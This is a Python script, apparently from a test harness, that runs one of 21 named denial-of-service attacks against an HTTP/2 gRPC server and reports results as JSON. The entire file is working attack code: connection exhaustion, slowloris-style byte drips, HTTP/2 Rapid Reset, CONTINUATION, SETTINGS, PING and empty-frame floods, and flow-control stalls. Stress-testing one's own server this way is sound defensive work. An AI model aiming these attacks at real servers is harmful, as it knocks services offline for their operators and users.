"""One attack on a server, until this process is ended. `ATTACKS` lists all of them.

Usage: attacker.py NAME ADDRESS. Prints `on` once the attack is under way, and at the end (SIGTERM) a line of JSON with what it did. An
attack that the server ends by closing a connection goes on with a new one.
"""

import errno
import json
import select
import signal
import struct
import sys
import time

from frames import (
    CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    call, connect, field, frame, greeting, head, header, message, question,
)  # fmt: skip

PATIENT = (("grpc-timeout", "1H"),)
# How many bytes a client may say that it will send.
HUGE = b"\0" + struct.pack(">I", 4 << 20)


class Attack:
    """What each connection of an attack does: it sends `first`, and then again and again what `more` returns."""

    # How many connections it keeps open.
    n_connections = 1
    # How often a connection sends more, in seconds. 0: as fast as it can; None: never.
    pace = None
    is_reading = False
    # For a server with other options than usual.
    options = ()
    n_descriptors = None

    def first(self):
        return b""

    def more(self, n):
        """What a connection sends for the `n`th time."""
        return b""


class Connections(Attack):
    """Ten times as many connections as the server takes."""

    n_connections = 10_000

    def first(self):
        return greeting()


class Descriptors(Connections):
    """More connections than the server has descriptors."""

    n_connections = 300
    n_descriptors = 128


class Drip(Attack):
    """Connections that send a byte now and then of what they have begun."""

    n_connections = 500
    pace = 0.5

    def text(self):
        return b""

    def more(self, n):
        text = self.text()
        return text[n : n + 1] or text[-1:]


class SlowHandshake(Drip):
    """A byte of a TLS handshake at a time."""

    options = ("tls",)

    def text(self):
        return b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)


class SlowPreface(Drip):
    """A byte of HTTP/2's preface at a time."""

    def text(self):
        return PREFACE


class SlowHeaders(Drip):
    """A byte of a call's headers at a time, in a frame of its own."""

    def first(self):
        return greeting() + frame(HEADERS, 0, 1, head())

    def more(self, n):
        name = header(f"x-{n}", "1")
        return frame(CONTINUATION, 0, 1, name)


class SlowFrame(Drip):
    """A byte of the frame of a call's headers at a time."""

    def first(self):
        return greeting()

    def text(self):
        return frame(HEADERS, END_HEADERS, 1, head(more=PATIENT))


class SlowBody(Drip):
    """A byte of a question at a time, in a frame of its own."""

    def first(self):
        return greeting() + frame(HEADERS, END_HEADERS, 1, head("BatchAuthorize", PATIENT)) + frame(DATA, 0, 1, HUGE)

    def more(self, n):
        return frame(DATA, 0, 1, b"\0")


class Unfinished(Attack):
    """Many messages of which a part never comes."""

    n_connections = 64

    def first(self):
        calls = (
            frame(HEADERS, END_HEADERS, stream, head("BatchAuthorize", PATIENT))
            + frame(DATA, 0, stream, HUGE + bytes(16000))
            + frame(DATA, 0, stream, bytes(16000))
            for stream in range(1, 201, 2)
        )
        return greeting() + b"".join(calls)


class RapidReset(Attack):
    """Calls that are cancelled as soon as they have begun."""

    n_connections = 4
    pace = 0
    is_reading = True

    def first(self):
        return greeting()

    def more(self, n):
        cancel = struct.pack(">I", CANCEL)
        streams = range(200 * n + 1, 200 * (n + 1), 2)
        block = head()
        return b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, cancel) for s in streams)


class Resets(RapidReset):
    """The same with whole questions, so that each is worth an answer."""

    def more(self, n):
        cancel = struct.pack(">I", CANCEL)
        streams = range(40 * n + 1, 40 * (n + 1), 2)
        return b"".join(call(s) + frame(RST_STREAM, 0, s, cancel) for s in streams)


class Flood(Attack):
    n_connections = 4
    pace = 0
    is_reading = True
    chunk = b""

    def first(self):
        return greeting()

    def more(self, n):
        return self.chunk


class Continuation(Flood):
    """Headers that never end."""

    chunk = b"".join(frame(CONTINUATION, 0, 1, header("x", "y" * 100)) for _ in range(100))

    def first(self):
        return greeting() + frame(HEADERS, 0, 1, head())


class EmptyContinuation(Continuation):
    """Headers that never end, in frames without a byte."""

    chunk = frame(CONTINUATION, 0, 1) * 2000


class EmptyData(Flood):
    """Frames of a question without a byte of it."""

    chunk = frame(DATA, 0, 1) * 2000

    def first(self):
        return greeting() + frame(HEADERS, END_HEADERS, 1, head("BatchAuthorize", PATIENT))


class Settings(Flood):
    """Settings again and again, each of which the server must acknowledge."""

    chunk = frame(SETTINGS) * 2000


class SettingsUnread(Settings):
    """The same, and nobody reads what the server says."""

    is_reading = False


class Pings(Flood):
    """Pings again and again, each of which the server must answer."""

    chunk = frame(PING, 0, 0, bytes(8)) * 2000


class PingsUnread(Pings):
    """The same, and nobody reads the answers."""

    is_reading = False


class WindowUpdates(Flood):
    """Windows that grow by a byte at a time."""

    chunk = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2000


class StalledReaders(Attack):
    """Batches whose answers nobody reads, with windows that would let the server send them."""

    n_connections = 16

    def first(self):
        batch = field(1, question()) * 100
        calls = b"".join(call(s, "BatchAuthorize", batch, PATIENT) for s in range(1, 201, 2))
        return greeting(window=1 << 20) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)) + calls


class UnreadFlood(Attack):
    """Questions as fast as the server takes them, whose answers nobody reads."""

    n_connections = 16
    pace = 0

    def first(self):
        return greeting() + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))

    def more(self, n):
        return b"".join(call(s) for s in range(200 * n + 1, 200 * (n + 1), 2))


class ZeroWindows(Attack):
    """Questions for whose answers there is never any space."""

    n_connections = 64

    def first(self):
        return greeting(window=0) + b"".join(call(s, more=PATIENT) for s in range(1, 201, 2))


ATTACKS = {
    "connections": Connections,
    "descriptors": Descriptors,
    "slow-handshake": SlowHandshake,
    "slow-preface": SlowPreface,
    "slow-headers": SlowHeaders,
    "slow-frame": SlowFrame,
    "slow-body": SlowBody,
    "unfinished": Unfinished,
    "rapid-reset": RapidReset,
    "resets": Resets,
    "continuation": Continuation,
    "empty-continuation": EmptyContinuation,
    "empty-data": EmptyData,
    "settings": Settings,
    "settings-unread": SettingsUnread,
    "pings": Pings,
    "pings-unread": PingsUnread,
    "window-updates": WindowUpdates,
    "stalled-readers": StalledReaders,
    "unread-flood": UnreadFlood,
    "zero-windows": ZeroWindows,
}

# How many connections may begin between two looks at the others.
AT_ONCE = 100


class Open:
    """A connection of the attack, with what it still has to send."""

    def __init__(self, attack, address):
        self.socket = connect(address, timeout=2, receive_buffer=None if attack.is_reading else 4096)
        self.socket.setblocking(False)
        self.unsent = attack.first()
        self.n_sent = 0
        self.due = time.monotonic()


class Attacker:
    def __init__(self, attack, address):
        self.attack, self.address = attack, address
        self.open = {}
        self.epoll = select.epoll()
        self.done = {"connections": 0, "refused": 0, "closed": 0, "bytes": 0}
        self.is_over = False

    def events(self, connection):
        """What to wait for. The end of a connection is told even to those who do not read."""
        is_writing = connection.unsent or self.attack.pace == 0
        return (
            select.EPOLLRDHUP
            | (select.EPOLLOUT if is_writing else 0)
            | (select.EPOLLIN if self.attack.is_reading else 0)
        )

    def connect_more(self):
        for _ in range(min(AT_ONCE, self.attack.n_connections - len(self.open))):
            try:
                connection = Open(self.attack, self.address)
            except OSError as error:
                self.done["refused"] += 1
                if error.errno == errno.EMFILE:
                    sys.exit("attacker: too few descriptors; raise `ulimit -n`")
                return
            self.done["connections"] += 1
            self.open[connection.socket.fileno()] = connection
            self.epoll.register(connection.socket, self.events(connection))

    def close(self, connection):
        self.done["closed"] += 1
        self.epoll.unregister(connection.socket)
        del self.open[connection.socket.fileno()]
        connection.socket.close()

    def send(self, connection):
        attack = self.attack
        now = time.monotonic()
        if not connection.unsent and attack.pace is not None and now >= connection.due:
            connection.unsent = attack.more(connection.n_sent)
            connection.n_sent += 1
            connection.due = now + attack.pace
        while connection.unsent:
            n_bytes = connection.socket.send(connection.unsent)
            self.done["bytes"] += n_bytes
            connection.unsent = connection.unsent[n_bytes:]

    def go_on(self, connection, events):
        """Lets one connection do what it can."""
        try:
            if events & select.EPOLLIN and not connection.socket.recv(1 << 16):
                raise ConnectionError("closed")
            if events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR) and not events & select.EPOLLIN:
                raise ConnectionError("closed")
            self.send(connection)
        except BlockingIOError:
            pass
        except OSError:
            self.close(connection)
            return
        self.epoll.modify(connection.socket, self.events(connection))

    def turn(self):
        self.connect_more()
        for descriptor, events in self.epoll.poll(0.02):
            self.go_on(self.open[descriptor], events)
        if self.attack.pace:
            now = time.monotonic()
            for connection in list(self.open.values()):
                if connection.due <= now:
                    self.go_on(connection, 0)

    def run(self):
        begun = time.monotonic()
        was_told = False
        while not self.is_over:
            self.turn()
            tried = self.done["connections"] + self.done["refused"]
            if not was_told and (tried >= self.attack.n_connections or time.monotonic() > begun + 3):
                was_told = True
                print("on", flush=True)
        self.done["open"] = len(self.open)
        self.done["seconds"] = round(time.monotonic() - begun, 1)
        print(json.dumps(self.done), flush=True)


def main():
    attacker = Attacker(ATTACKS[sys.argv[1]](), sys.argv[2])

    def end(*_):
        attacker.is_over = True

    signal.signal(signal.SIGTERM, end)
    attacker.run()


if __name__ == "__main__":
    main()
